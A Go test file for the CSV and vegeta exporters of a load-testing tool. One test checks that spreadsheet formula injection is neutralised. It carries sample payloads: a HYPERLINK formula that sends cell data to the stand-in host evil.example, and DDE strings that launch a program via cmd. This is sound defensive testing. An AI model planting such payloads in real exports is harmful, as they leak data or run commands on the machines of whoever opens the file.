package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"math"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	vegeta "github.com/tsenart/vegeta/v12/lib"

	"github.com/stormtest/stormtest/internal/testfix"
	"github.com/stormtest/stormtest/profiles"
	"github.com/stormtest/stormtest/results"
)

var testStart = time.Date(2025, 3, 14, 15, 9, 26, 535897932, time.UTC)

func testHeader() results.Header {
	rate := 1000.0
	return results.Header{
		Format:    results.FormatVersion,
		Generator: "stormtest test",
		Target:    "http://127.0.0.1:8080/",
		Start:     testStart,
		Profile: profiles.Profile{
			Name: "spike",
			Phases: []profiles.Phase{
				{Name: "warm up", Duration: profiles.Duration(5 * time.Second), Rate: &rate},
				{Name: "peak", Duration: profiles.Duration(5 * time.Second), Rate: &rate},
			},
			Client:  profiles.Client{Timeout: profiles.Duration(time.Second)},
			Request: profiles.Request{Method: "POST", Path: "/api/orders?limit=10"},
		},
		Groups: []string{"web", "batch"},
	}
}

// synthetic returns n attempts with a known mix: log-normal latencies around 20 ms (part of
// it send lag), 0.5% timeouts at 1 s (so that p99 is in the log-normal tail, not at the
// timeout), 3% 503s, 2% 429s with messages, 1% refused, 3.5% retries; in completion order.
func synthetic(n int) []results.Record {
	rng := rand.New(rand.NewPCG(7, 11))
	recs := make([]results.Record, 0, n)
	for i := range n {
		intended := testStart.UnixNano() + int64(i)*int64(time.Millisecond)
		svc := time.Duration(math.Exp(math.Log(20e6)+0.8*rng.NormFloat64())) + time.Duration(rng.IntN(1000))
		lag := time.Duration(rng.IntN(int(2 * time.Millisecond)))
		rec := results.Record{
			RequestID: uint64(i), Attempt: 1, Group: uint8(i % 2), Phase: uint8(min(i*2/n, 1)),
			Kind: results.KindOK, Code: 200, Intended: intended, SendLag: lag, ServiceTime: svc,
		}
		switch u := rng.Float64(); {
		case u < 0.005:
			rec.Kind, rec.Code, rec.ServiceTime, rec.Error = results.KindTimeout, 0, time.Second, "timeout awaiting response headers"
		case u < 0.035:
			rec.Kind, rec.Code = results.Kind5xx, 503
		case u < 0.055:
			rec.Kind, rec.Code, rec.Error = results.Kind429, 429, "429 Too Many Requests"
		case u < 0.065:
			rec.Kind, rec.Code, rec.ServiceTime, rec.Error = results.KindRefused, 0, 300*time.Microsecond, "connection refused"
		case u < 0.10:
			rec.Attempt, rec.RequestAge = 2, 40*time.Millisecond
		}
		recs = append(recs, rec)
	}
	slices.SortStableFunc(recs, func(a, b results.Record) int { return int(a.End() - b.End()) })
	return recs
}

func export(t testing.TB, path string, f Format) ([]byte, Stats, error) {
	t.Helper()
	r, err := results.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	var buf bytes.Buffer
	st, err := Write(&buf, r, f)
	return buf.Bytes(), st, err
}

// TestVegetaRoundTrip decodes both vegeta exports with vegeta's own decoders and checks
// every field against the records.
func TestVegetaRoundTrip(t *testing.T) {
	recs := synthetic(2000)
	path := testfix.WriteTemp(t, testHeader(), recs)
	for _, f := range []Format{VegetaJSON, VegetaCSV} {
		out, st, err := export(t, path, f)
		if err != nil || st.Records != uint64(len(recs)) {
			t.Fatalf("%s: %d records, %v", f, st.Records, err)
		}
		dec := vegeta.DecoderFor(bytes.NewReader(out))
		if dec == nil {
			t.Fatalf("%s: vegeta cannot detect the encoding", f)
		}
		for i, rec := range recs {
			var res vegeta.Result
			if err := dec.Decode(&res); err != nil {
				t.Fatalf("%s: result %d: %v", f, i, err)
			}
			if res.Seq != uint64(i) || res.Code != rec.Code || res.Timestamp.UnixNano() != rec.Intended ||
				res.Latency != rec.Latency() || !res.End().Equal(time.Unix(0, rec.End())) ||
				res.Attack != "spike" || res.Method != "POST" || res.URL != "http://127.0.0.1:8080/api/orders?limit=10" {
				t.Fatalf("%s: result %d = %+v for %+v", f, i, res, rec)
			}
			wantErr := rec.Error
			if wantErr == "" && rec.Code == 503 {
				wantErr = "503 Service Unavailable"
			}
			if res.Error != wantErr {
				t.Fatalf("%s: result %d error %q, want %q", f, i, res.Error, wantErr)
			}
		}
		if f == VegetaJSON && !bytes.Contains(out, []byte(`"timestamp":"2025-03-14T15:09:26.535897932Z"`)) {
			t.Errorf("no RFC 3339 UTC timestamp with nanoseconds in %.300s", out)
		}
	}
}

func TestCSV(t *testing.T) {
	recs := synthetic(500)
	path := testfix.WriteTemp(t, testHeader(), recs)
	out, st, err := export(t, path, CSV)
	if err != nil || st.Records != 500 {
		t.Fatalf("%d records, %v", st.Records, err)
	}
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(rows[0], CSVColumns) || len(rows) != 501 {
		t.Fatalf("header %v, %d rows", rows[0], len(rows))
	}
	phases := []string{"warm up", "peak"}
	groups := []string{"web", "batch"}
	for i, rec := range recs {
		want := []string{
			strconv.FormatUint(rec.RequestID, 10), strconv.Itoa(int(rec.Attempt)), groups[rec.Group], phases[rec.Phase],
			rec.Kind.String(), strconv.Itoa(int(rec.Code)), strconv.FormatInt(rec.Intended, 10),
			strconv.FormatInt(int64(rec.SendLag), 10), strconv.FormatInt(int64(rec.ServiceTime), 10),
			strconv.FormatInt(int64(rec.Latency()), 10), strconv.FormatInt(int64(rec.RequestAge), 10), rec.Error,
		}
		if !slices.Equal(rows[i+1], want) {
			t.Fatalf("row %d = %v, want %v", i+1, rows[i+1], want)
		}
	}
}

// TestDamage cuts a file inside its last block: what is readable is exported and the
// damage is returned, both as the error and in Stats.
func TestDamage(t *testing.T) {
	recs := synthetic(20000) // several 64 KiB blocks
	path := testfix.WriteTemp(t, testHeader(), recs)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data[:len(data)*3/4], 0o644); err != nil {
		t.Fatal(err)
	}
	for _, f := range Formats() {
		out, st, err := export(t, path, f)
		var de *results.DamageError
		if !errors.As(err, &de) || st.Damage != de {
			t.Fatalf("%s: err %v, stats %+v: want the damage", f, err, st)
		}
		if st.Records == 0 || st.Records >= uint64(len(recs)) || st.Records != de.Records {
			t.Fatalf("%s: exported %d of %d records, damage after %d", f, st.Records, len(recs), de.Records)
		}
		lines := uint64(bytes.Count(out, []byte("\n")))
		if f == CSV {
			lines-- // header
		}
		if lines != st.Records {
			t.Fatalf("%s: %d lines for %d records", f, lines, st.Records)
		}
	}
}

func TestParseFormat(t *testing.T) {
	for _, f := range Formats() {
		if g, err := ParseFormat(string(f)); g != f || err != nil {
			t.Errorf("ParseFormat(%q) = %q, %v", f, g, err)
		}
	}
	if _, err := ParseFormat("gob"); err == nil || !strings.Contains(err.Error(), "vegeta-json") {
		t.Errorf("ParseFormat(gob) = %v", err)
	}
}

// vegetaReport is the part of `vegeta report -type=json` the tests compare.
type vegetaReport struct {
	Requests  uint64  `json:"requests"`
	Success   float64 `json:"success"`
	Latencies struct {
		P50 time.Duration `json:"50th"`
		P99 time.Duration `json:"99th"`
		Max time.Duration `json:"max"`
	} `json:"latencies"`
	StatusCodes map[string]int `json:"status_codes"`
}

// TestVegetaCLI feeds both vegeta exports to the real `vegeta report` and checks that it
// agrees with our own figures for the same attempts.
func TestVegetaCLI(t *testing.T) {
	bin := vegetaBinary(t)
	recs := synthetic(50000)
	path := testfix.WriteTemp(t, testHeader(), recs)

	lat := make([]time.Duration, len(recs))
	ok := 0
	for i, rec := range recs {
		lat[i] = rec.Latency()
		if rec.Code >= 200 && rec.Code < 400 {
			ok++
		}
	}
	slices.Sort(lat)
	rank := func(q float64) time.Duration { return lat[int(math.Ceil(q*float64(len(lat))))-1] }

	for _, f := range []Format{VegetaJSON, VegetaCSV} {
		out, _, err := export(t, path, f)
		if err != nil {
			t.Fatal(err)
		}
		file := filepath.Join(t.TempDir(), "results."+string(f))
		if err := os.WriteFile(file, out, 0o644); err != nil {
			t.Fatal(err)
		}
		// vegeta report detects gob, JSON and CSV by itself (lib.DecoderFor).
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, bin, "report", "-type=json", file)
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		js, err := cmd.Output()
		if err != nil {
			t.Fatalf("%s: vegeta report: %v: %s", f, err, stderr.Bytes())
		}
		var rep vegetaReport
		if err := json.Unmarshal(js, &rep); err != nil {
			t.Fatalf("%s: %v in %s", f, err, js)
		}
		if rep.Requests != uint64(len(recs)) {
			t.Errorf("%s: vegeta counted %d requests, want %d", f, rep.Requests, len(recs))
		}
		if want := float64(ok) / float64(len(recs)); math.Abs(rep.Success-want) > 1e-9 {
			t.Errorf("%s: vegeta success %.6f, want %.6f", f, rep.Success, want)
		}
		if rep.StatusCodes["503"] == 0 || rep.StatusCodes["0"] == 0 || rep.StatusCodes["429"] == 0 {
			t.Errorf("%s: status codes %v lack the error mix", f, rep.StatusCodes)
		}
		// vegeta's percentiles are t-digest estimates, whose error is in rank, not in value:
		// its p99 must be a latency that sits between our exact p98.5 and p99.5 (p50:
		// p49.5–p50.5). Its max is exact.
		for _, c := range []struct {
			name string
			got  time.Duration
			q    float64
		}{{"p50", rep.Latencies.P50, 0.50}, {"p99", rep.Latencies.P99, 0.99}} {
			lo, hi := rank(c.q-0.005), rank(c.q+0.005)
			if c.got < lo || c.got > hi {
				t.Errorf("%s: vegeta %s %s, outside our exact p%.1f–p%.1f (%s–%s)", f, c.name, c.got, 100*(c.q-0.005), 100*(c.q+0.005), lo, hi)
			}
		}
		if d := (rep.Latencies.Max - lat[len(lat)-1]).Abs(); d >= time.Microsecond {
			t.Errorf("%s: vegeta max %s, ours %s", f, rep.Latencies.Max, lat[len(lat)-1])
		}
		t.Logf("%s: vegeta p50 %s p99 %s max %s; ours %s %s %s", f,
			rep.Latencies.P50, rep.Latencies.P99, rep.Latencies.Max, rank(0.5), rank(0.99), lat[len(lat)-1])
	}
}

// vegetaVersion is the vegeta CLI the tests compare against: the library version go.mod
// requires.
const vegetaVersion = "v12.13.0"

// vegetaBinary builds vegeta's CLI from the module cache once per machine and returns its
// path. It skips the test only when there is no go command to build it with.
func vegetaBinary(t *testing.T) string {
	t.Helper()
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("no go command on PATH to build the vegeta CLI with: skipping the comparison with vegeta")
	}
	cache, err := os.UserCacheDir()
	if err != nil {
		cache = os.TempDir()
	}
	dir := filepath.Join(cache, "stormtest-test")
	bin := filepath.Join(dir, "vegeta-"+vegetaVersion)
	if _, err := os.Stat(bin); err == nil {
		return bin
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	// Bounded, so that a stalled download fails the test instead of hanging the suite.
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	out, err := exec.CommandContext(ctx, goBin, "mod", "download", "-json", "github.com/tsenart/vegeta/v12@"+vegetaVersion).Output()
	if err != nil {
		t.Fatalf("go mod download vegeta: %v", err)
	}
	var mod struct{ Dir, Error string }
	if err := json.Unmarshal(out, &mod); err != nil || mod.Dir == "" {
		t.Fatalf("go mod download vegeta: no directory (%v %s) in %s", err, mod.Error, out)
	}
	// Build to a temporary name and rename, so that a concurrent or interrupted build never
	// leaves a half-written binary at bin.
	tmp, err := os.CreateTemp(dir, "vegeta-build-*")
	if err != nil {
		t.Fatal(err)
	}
	tmp.Close()
	defer os.Remove(tmp.Name())
	build := exec.CommandContext(ctx, goBin, "build", "-o", tmp.Name(), ".")
	build.Dir = mod.Dir
	// vegeta's own go.mod pins its dependencies; -mod=mod lets the build fetch them even
	// though the module cache directory is read-only and carries no vendor tree.
	build.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOWORK=off")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("building vegeta %s: %v\n%s", vegetaVersion, err, out)
	}
	if err := os.Rename(tmp.Name(), bin); err != nil {
		t.Fatal(err)
	}
	return bin
}

// TestCSVNeutralisesFormulas checks that no cell of either CSV export starts with a
// character a spreadsheet would read as a formula (OWASP's list: = + - @ TAB CR): a reason
// phrase or a name from the target or the profile must not run in the reader's spreadsheet.
func TestCSVNeutralisesFormulas(t *testing.T) {
	cases := []struct {
		name, errMsg string
	}{
		{"equals", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"plus", "+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3"},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab", "\t=1+1"},
		{"carriage return", "\r=1+1"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			recs := synthetic(20)
			recs[3].Kind, recs[3].Code, recs[3].Error = results.Kind5xx, 503, tc.errMsg
			path := testfix.WriteTemp(t, testHeader(), recs)
			for _, f := range []Format{CSV, VegetaCSV} {
				out, _, err := export(t, path, f)
				if err != nil {
					t.Fatalf("%s: %v", f, err)
				}
				rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
				if err != nil {
					t.Fatalf("%s: %v", f, err)
				}
				found := false
				for _, row := range rows {
					for _, cell := range row {
						if cell == "'"+tc.errMsg {
							found = true
						}
						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
							t.Errorf("%s: cell %q starts a formula", f, cell)
						}
					}
				}
				if !found {
					t.Errorf("%s: no cell holds the message with a leading quote, %q", f, "'"+tc.errMsg)
				}
			}
		})
	}
}

// TestSinkDuringARun feeds a Sink the stream as an attack would, next to the results file
// (results.Tee): its output is byte for byte the export of that file, in every format.
func TestSinkDuringARun(t *testing.T) {
	recs := synthetic(2000)
	for _, f := range Formats() {
		t.Run(string(f), func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "run.st")
			var live bytes.Buffer
			sink := results.Tee(results.NewFileSink(path, results.CreateOptions{FlushInterval: time.Hour}), NewSink(&live, f))
			if err := sink.Begin(testHeader()); err != nil {
				t.Fatal(err)
			}
			for i := range recs {
				if err := sink.Write(&recs[i]); err != nil {
					t.Fatal(err)
				}
			}
			if err := sink.End(results.Trailer{End: testStart.Add(time.Minute), Attempts: uint64(len(recs))}); err != nil {
				t.Fatal(err)
			}
			read, st, err := export(t, path, f)
			if err != nil || st.Records != uint64(len(recs)) {
				t.Fatalf("export of the file: %d records, %v", st.Records, err)
			}
			if !bytes.Equal(live.Bytes(), read) {
				t.Errorf("the live export (%d bytes) differs from the file's (%d bytes)", live.Len(), len(read))
			}
		})
	}
}
